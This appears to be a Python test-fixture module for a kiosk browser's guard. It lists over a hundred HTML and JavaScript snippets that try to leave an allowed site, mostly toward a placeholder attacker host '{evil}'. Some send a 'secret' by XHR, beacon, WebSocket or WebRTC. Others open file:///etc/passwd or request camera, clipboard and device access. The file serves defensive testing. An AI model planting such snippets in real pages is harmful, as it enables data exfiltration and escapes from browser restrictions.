"""Ways out of a page that a journey shows, or to somewhere else: what pages, and fingers on pages, can try.

In the pages {evil} is a site that no journey names, {same} that site's port under the journey's own name, {raw} its
address without a name, {udp} a port where it also listens. A page that got hold of something says so in `window.out`.
"""

from dataclasses import dataclass

from kiosk.official_site.events import Barred

_GO = "<script>onload = () => { const go = document.getElementById('go'); if (go) go.click(); }</script>"


@dataclass(frozen=True)
class Way:
    """One way out."""

    name: str
    page: str
    does: str = "touch"
    """What happens on the page: "touch" or "ctrl-touch" of #go where there is one, "hold", "drag", "keys"."""
    tells: Barred | None = None
    """What the visitor hears of it; None: nothing, because nobody would wonder."""
    leaks: bool = True
    """Whether a browser without our guard goes that way; else the browser itself has no such way."""


def _link(href: str, more: str = "") -> str:
    return f'<a id="go" href="{href}" {more}>Go</a>'


def _tries(script: str) -> str:
    return f"<script>(async () => {{ {script} }})().catch(() => 0)</script>"


_TO_PLACES = (
    Way("link", _link("{evil}/x"), tells=Barred.HOST),
    Way("link_in_shadow", "<div id=go style=display:inline-block></div><script>go.attachShadow({mode: 'open'})"
        ".innerHTML = '<a href={evil}/x>Go</a>'</script>", tells=Barred.HOST),
    Way("link_on_a_picture", "<map name=m><area id=a shape=rect coords=0,0,99,99 href={evil}/x></map>"
        "<img id=go usemap=#m width=99 height=99>", tells=Barred.HOST),
    Way("link_in_a_drawing", "<svg id=go width=99 height=99><a href={evil}/x><rect width=99 height=99 /></a></svg>",
        tells=Barred.HOST),
    Way("link_with_our_name_as_user", _link("http://{host}@{evil_host}/x"), tells=Barred.HOST),
    Way("link_to_another_port", _link("{same}/x"), tells=Barred.HOST),
    Way("link_to_an_address", _link("{raw}/x"), tells=Barred.HOST),
    Way("link_against_its_base", "<base href={evil}/>" + _link("x"), tells=Barred.HOST),
    Way("link_that_is_a_script", _link("javascript:location='{evil}/x'"), tells=Barred.HOST),
    Way("link_with_control", _link("{evil}/x"), does="ctrl-touch"),
    Way("redirect", _link("/to-evil"), tells=Barred.HOST),
    Way("redirect_after_redirect", _link("/to-to-evil"), tells=Barred.HOST),
    Way("meta_refresh", "<meta http-equiv=refresh content='0;url={evil}/x'>", tells=Barred.HOST),
    Way("refresh_header", _link("/refreshes"), tells=Barred.HOST),
    Way("location", _tries("location = '{evil}/x'"), tells=Barred.HOST),
    Way("location_replaced_later", _tries("setTimeout(() => location.replace('{evil}/x'), 20)"), tells=Barred.HOST),
    Way("form_get", "<form action={evil}/x><button id=go>Go</button></form>", tells=Barred.HOST),
    Way("form_post", "<form method=post action={evil}/x><button id=go>Go</button></form>", tells=Barred.HOST),
    Way("form_by_its_button", "<form action=/><button id=go formaction={evil}/x>Go</button></form>", tells=Barred.HOST),
    Way("form_redirected", "<form method=post action=/to-evil><button id=go>Go</button></form>", tells=Barred.HOST),
    Way("page_of_its_own_making", _tries("location = URL.createObjectURL(new Blob(["
        "'<img src={evil}/x>'], {type: 'text/html'}))")),
    Way("history", _tries("try { history.pushState(0, '', '{evil}/x') } catch { history.pushState(0, '', '/x') }"
        "; history.back()"), leaks=False),
)  # fmt: skip
_WINDOWS = (
    Way("window", _link("#", "onclick=\"window.open('{evil}/x')\""), tells=Barred.HOST),
    Way("window_without_being_touched", _tries("open('{evil}/x')"), tells=Barred.HOST),
    Way("window_filled_later", _link("#", "onclick=\"window.open('').location = '{evil}/x'\""), tells=Barred.SCHEME),
    Way("window_by_target", _link("{evil}/x", "target=_blank"), tells=Barred.HOST),
    Way("window_by_name", _link("{evil}/x", "target=other"), tells=Barred.HOST),
    Way("window_with_opener", _link("{evil}/x", "target=_blank rel=opener"), tells=Barred.HOST),
    Way("window_by_base", "<base target=_blank>" + _link("{evil}/x"), tells=Barred.HOST),
    Way("window_for_a_form", "<form method=post target=_blank action={evil}/x><button id=go>Go</button></form>",
        tells=Barred.HOST),
    Way("window_by_script_form", "<form id=f method=post target=_blank action={evil}/x></form>"
        "<button id=go onclick=f.submit()>Go</button>", tells=Barred.HOST),
    Way("window_of_ours", _link("/x", "target=_blank rel=noopener")),
)  # fmt: skip
_FRAMES = (
    Way("frame", "<iframe src={evil}/x></iframe>"),
    Way("frame_in_frame", "<iframe srcdoc='<iframe src={evil}/x></iframe>'></iframe>"),
    Way("frame_that_goes_on", "<iframe src=/to-evil></iframe>"),
    Way("frame_refreshed", "<iframe srcdoc='<meta http-equiv=refresh content=0;url={evil}/x>'></iframe>"),
    Way("frame_that_moves_the_page", "<iframe srcdoc=\"<script>top.location='{evil}/x'</script>\"></iframe>",
        tells=Barred.HOST),
    Way("link_in_a_frame", "<iframe style='position:fixed;inset:0' id=go srcdoc='<a style=\"position:fixed;inset:0\" "
        "href={evil}/x>Go</a>'></iframe>", tells=Barred.HOST),
    Way("link_in_a_frame_to_the_top", "<iframe style='position:fixed;inset:0' id=go srcdoc='<a target=_top "
        "style=\"position:fixed;inset:0\" href={evil}/x>Go</a>'></iframe>", tells=Barred.HOST),
    Way("frame_of_data", '<iframe src="data:text/html,<img src={evil}/x>"></iframe>'),
    Way("frame_in_a_sandbox", "<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('{evil}/x')</script>\"></iframe>"),
    Way("object", "<object data={evil}/x></object>"),
    Way("embed", "<embed src={evil}/x type=text/html>"),
)  # fmt: skip
_FETCHED = (
    Way("picture", "<img src={evil}/x>"),
    Way("picture_redirected", "<img src=/to-evil>"),
    Way("script", "<script src={evil}/x></script>"),
    Way("module", "<script type=module>import('{evil}/x')</script>"),
    Way("style", "<style>@import url({evil}/x);</style>"),
    Way("background", "<p style='background: url({evil}/x)'>x"),
    Way("letters", "<style>@font-face { font-family: f; src: url({evil}/x) } p { font-family: f }</style><p>x"),
    Way("film", "<video src={evil}/x autoplay muted></video>"),
    Way("fetch", _tries("await fetch('{evil}/x', {mode: 'no-cors'})")),
    Way("fetch_that_outlives", _tries("await fetch('{evil}/x', {mode: 'no-cors', keepalive: true})")),
    Way("xhr", _tries("const x = new XMLHttpRequest(); x.open('POST', '{evil}/x'); x.send('secret')")),
    Way("beacon", _tries("navigator.sendBeacon('{evil}/x', 'secret')")),
    Way("beacon_on_leaving", _tries("addEventListener('pagehide', () => navigator.sendBeacon('{evil}/x', 'secret'))"
        "; location = '/x'")),
    Way("event_source", _tries("new EventSource('{evil}/x')")),
    Way("web_socket", _tries("new WebSocket('{evil}/x'.replace('http', 'ws'))")),
    Way("web_socket_of_a_frame", "<iframe srcdoc=''></iframe>" + _tries(
        "onload = () => new frames[0].WebSocket('{evil}/x'.replace('http', 'ws'))")),
    Way("web_socket_kept", _tries("new WebSocket.prototype.constructor('{evil}/x'.replace('http', 'ws'))")),
    Way("web_rtc", _tries("const p = new RTCPeerConnection({iceServers: [{urls: 'stun:{udp}'}]}); "
        "p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())")),
    Way("web_rtc_of_a_frame", "<iframe srcdoc=''></iframe>" + _tries("onload = async () => { const p = new frames[0]"
        ".RTCPeerConnection({iceServers: [{urls: 'stun:{udp}'}]}); p.createDataChannel('x'); "
        "await p.setLocalDescription(await p.createOffer()) }")),
    Way("prefetch", "<link rel=prefetch href={evil}/x>"),
    Way("preload", "<link rel=preload as=image href={evil}/x>"),
    Way("speculation", '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["{evil}/x"], '
        '"eagerness": "immediate"}]}</script>', leaks=False),
    Way("ping", _link("/x", "ping={evil}/x")),
    Way("report", _link("/reports")),
    Way("worker", _tries("new Worker(URL.createObjectURL(new Blob([\"fetch('{evil}/x', {mode: 'no-cors'})\"])))")),
    Way("worker_script", _tries("new Worker(URL.createObjectURL(new Blob([\"importScripts('{evil}/x')\"])))")),
    Way("worker_in_worker", _tries('new Worker(URL.createObjectURL(new Blob(["new Worker(URL.createObjectURL('
        "new Blob(['fetch(`{evil}/x`, {mode: `no-cors`})'])))\"])))")),
    Way("worker_web_socket", _tries("new Worker(URL.createObjectURL(new Blob(["
        "\"new WebSocket('{evil}/x'.replace('http', 'ws'))\"])))")),
    Way("worker_in_worker_web_socket", _tries('new Worker(URL.createObjectURL(new Blob(["new Worker('
        "URL.createObjectURL(new Blob(['new WebSocket(`{evil}/x`.replace(`http`, `ws`))'])))\"])))")),
    Way("shared_worker", _tries("new SharedWorker(URL.createObjectURL(new Blob(["
        "\"fetch('{evil}/x', {mode: 'no-cors'})\"])))")),
    Way("service_worker", _tries("await navigator.serviceWorker.register('/worker.js')")),
    Way("worklet", _tries("await CSS.paintWorklet.addModule('{evil}/x')")),
)  # fmt: skip
_TO_THIS_MACHINE = (
    Way("download", _link("/attached"), tells=Barred.DOWNLOAD),
    Way("download_by_its_name", _link("/x", "download=x.html"), tells=Barred.DOWNLOAD),
    Way("download_made_here", "<a id=go download=x.txt>Go</a><script>go.href = URL.createObjectURL(new Blob(['x']))"
        "</script>", tells=Barred.DOWNLOAD),
    Way("download_of_data", _link("data:text/plain,x", "download=x.txt"), tells=Barred.DOWNLOAD),
    Way("download_without_being_touched", _link("/attached") + _GO, does="", tells=Barred.DOWNLOAD),
    Way("file", "<input id=go type=file>", tells=Barred.FILE, leaks=False),
    Way("file_behind_a_label", "<label id=go>Go<input hidden type=file></label>", tells=Barred.FILE, leaks=False),
    Way("folder", "<input id=go type=file webkitdirectory>", tells=Barred.FILE, leaks=False),
    Way("file_picker", _link("#", "onclick=\"showOpenFilePicker().then(() => { window.out = 'picked' })\""),
        leaks=False),
    Way("print", "<button id=go onclick=print()>Go</button>", tells=Barred.PRINT, leaks=False),
    Way("print_without_being_touched", _tries("print()"), tells=Barred.PRINT, leaks=False),
    Way("mail", _link("mailto:a@b.be?body=x"), tells=Barred.MAIL, leaks=False),
    Way("mail_by_script", _tries("location = 'mailto:a@b.be'"), tells=Barred.MAIL, leaks=False),
    Way("mail_in_a_window", _link("mailto:a@b.be", "target=_blank"), tells=Barred.MAIL, leaks=False),
    Way("call", _link("tel:+3281234567"), tells=Barred.CALL, leaks=False),
    Way("program", _link("itsme://x"), tells=Barred.SCHEME, leaks=False),
    Way("intent", _link("intent://x#Intent;scheme=x;end"), tells=Barred.SCHEME, leaks=False),
    Way("file_address", _link("file:///etc/passwd"), tells=Barred.SCHEME, leaks=False),
    Way("file_in_a_frame", "<iframe src=file:///etc/passwd></iframe>", tells=Barred.SCHEME, leaks=False),
    Way("page_of_the_browser", _link("chrome://version"), tells=Barred.SCHEME, leaks=False),
    Way("tools_of_the_browser", _link("devtools://devtools/bundled/inspector.html"), tells=Barred.SCHEME, leaks=False),
    Way("source", _link("view-source:{shop}/x"), tells=Barred.SCHEME, leaks=False),
    Way("data_as_a_page", _tries("location = 'data:text/html,x'"), leaks=False),
)  # fmt: skip
_BY_HAND = (
    Way("keys", "<input id=go>", does="keys", leaks=False),
    Way("hold", _link("{evil}/x"), does="hold", tells=Barred.HOST, leaks=False),
    Way("drag", _link("{evil}/x"), does="drag", leaks=False),
    Way("fullscreen", "<button id=go onclick=\"document.body.requestFullscreen().then(() => { window.out = 'full' })\">"
        "Go</button>"),
    Way("clipboard", "<button id=go onclick=\"navigator.clipboard.writeText('x').then(() => { window.out = 'x' })\">"
        "Go</button>"),
    Way("geolocation", _tries("navigator.geolocation.getCurrentPosition(() => { window.out = 'here' })")),
    Way("notification", _tries("if (await Notification.requestPermission() == 'granted') window.out = 'granted'")),
    Way("camera", _tries("await navigator.mediaDevices.getUserMedia({video: true}); window.out = 'seen'")),
    Way("microphone", _tries("await navigator.mediaDevices.getUserMedia({audio: true}); window.out = 'heard'")),
    Way("midi", _tries("await navigator.requestMIDIAccess(); window.out = 'music'"), leaks=False),
    Way("midi_with_programs", _tries("await navigator.requestMIDIAccess({sysex: true}); window.out = 'music'"),
        leaks=False),
    Way("clipboard_read", "<button id=go onclick=\"navigator.clipboard.readText().then(() => { window.out = 'it' })\">"
        "Go</button>"),
    Way("movement", _tries("const a = new Accelerometer(); a.onactivate = () => { window.out = 'moved' }; a.start()"),
        leaks=False),
    Way("awake", _tries("await navigator.wakeLock.request('screen'); window.out = 'awake'")),
    Way("absence", '<button id=go onclick="IdleDetector.requestPermission().then(one => '
        "{ if (one === 'granted') window.out = 'watched' })\">Go</button>"),
    Way("screens", "<button id=go onclick=\"getScreenDetails().then(() => { window.out = 'counted' })\">Go</button>"),
    Way("letters_of_this_machine", '<button id=go onclick="queryLocalFonts().then(all => '
        "{ if (all.length) window.out = 'read' })\">Go</button>"),
    Way("storage_for_ever", _tries("if (await navigator.storage.persist()) window.out = 'kept'")),
    Way("keys_of_the_system", "<button id=go onclick=\"navigator.keyboard.lock().then(() => { window.out = 'keys' })\">"
        "Go</button>"),
    Way("pointer", "<button id=go onclick=\"document.body.requestPointerLock().then(() => { window.out = 'held' })\">"
        "Go</button>"),
    Way("passwords", _tries("if (navigator.credentials || window.PublicKeyCredential) window.out = 'asked for'")),
    Way("speech_for_others", _tries("new webkitSpeechRecognition().start(); window.out = 'heard'")),
    Way("screen", "<button id=go onclick=\"navigator.mediaDevices.getDisplayMedia().then(() => { window.out = 'seen' })"
        '">Go</button>', leaks=False),
    Way("devices", '<button id=go onclick="for (const one of [navigator.usb, navigator.serial, navigator.bluetooth, '
        "navigator.hid]) if (one) (one.requestDevice || one.requestPort).call(one, {filters: []}).then(one => "
        "{ if (one.length !== 0) window.out = 'held' }, () => 0)\">Go</button>", leaks=False),
    Way("scheme_of_its_own", _tries("navigator.registerProtocolHandler('web+x', '/%s')"), leaks=False),
    Way("installation", "<link rel=manifest href={evil}/x>" + _tries(
        "addEventListener('beforeinstallprompt', e => { window.out = 'offered'; e.prompt() })"), leaks=False),
    Way("payment", "<button id=go onclick=\"new PaymentRequest([{supportedMethods: '{evil}/x'}], {total: {label: 'x', "
        "amount: {currency: 'EUR', value: '1'}}}).show()\">Go</button>", leaks=False),
)  # fmt: skip
WAYS = (*_TO_PLACES, *_WINDOWS, *_FRAMES, *_FETCHED, *_TO_THIS_MACHINE, *_BY_HAND)
